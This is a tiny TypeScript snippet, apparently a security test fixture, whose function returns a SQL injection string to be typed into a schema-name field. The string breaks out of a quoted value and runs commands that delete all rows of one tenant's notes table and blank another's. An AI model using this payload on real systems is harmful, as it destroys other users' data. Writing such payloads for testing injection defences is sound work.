/** What you type into the field “Name of your schema”. */
export function payload(): string {
  return "x\"; delete from globex.notes; update acme.notes set body = ''; --"
}
